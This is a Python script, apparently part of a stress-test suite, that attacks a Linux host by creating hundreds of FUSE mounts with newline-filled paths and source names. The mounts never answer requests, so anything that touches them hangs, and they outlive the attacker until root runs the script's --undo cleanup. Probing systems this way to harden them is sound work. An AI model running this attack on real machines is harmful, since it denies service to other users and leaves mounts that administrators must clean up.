"""FUSE mounts in the host's own namespace, by fusermount3(1), with long names: home's mountinfo is what one makes it.

No request is ever answered: what walks into one waits until the attacker ends. The mounts stay then, since umounts by
fusermount3 know no such long names: root ends them with `--undo`.
"""

import argparse
import os
import resource
import socket
import subprocess

from tests.siege.attacks.calls import hold, unmount

NAME = "\n" * 250


def fuse(place: str, source: str) -> int:
    """Mount one; its descriptor, whose end makes every access fail."""
    ours, its = socket.socketpair()
    with ours, its:
        command = ["fusermount3", "-o", f"fsname={source},subtype=x", "--", place]
        environment = {**os.environ, "_FUSE_COMMFD": str(its.fileno())}
        subprocess.run(command, env=environment, pass_fds=[its.fileno()], check=True, stdin=subprocess.DEVNULL)
        _data, descriptors, _flags, _address = socket.recv_fds(ours, 1, 1)
    return descriptors[0]


def undo() -> None:
    """Unmount them all."""
    with open("/proc/self/mountinfo", "rb") as file:
        lines = [line.split(b" ") for line in file if b" - fuse.x " in line]
    for line in lines:
        unmount(line[4].replace(rb"\012", b"\n"))


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--mounts", type=int, default=640)
    parser.add_argument("--levels", type=int, default=14, help="of 1 KiB in the mountpoint's path")
    parser.add_argument("--source", type=int, default=3000, help="newlines in the name of the source")
    parser.add_argument("--below", default=os.environ.get("HOME", "/tmp"))
    parser.add_argument("--undo", action="store_true", help="unmount what such attackers have left, as root")
    options = parser.parse_args()
    if options.undo:
        undo()
        return
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    base = "/".join([options.below, *[NAME] * options.levels])
    places = [f"{base}/{number}" for number in range(options.mounts)]

    held = []
    for place in places:
        os.makedirs(place, exist_ok=True)
        held.append(fuse(place, "\n" * options.source))
    hold()


if __name__ == "__main__":
    main()
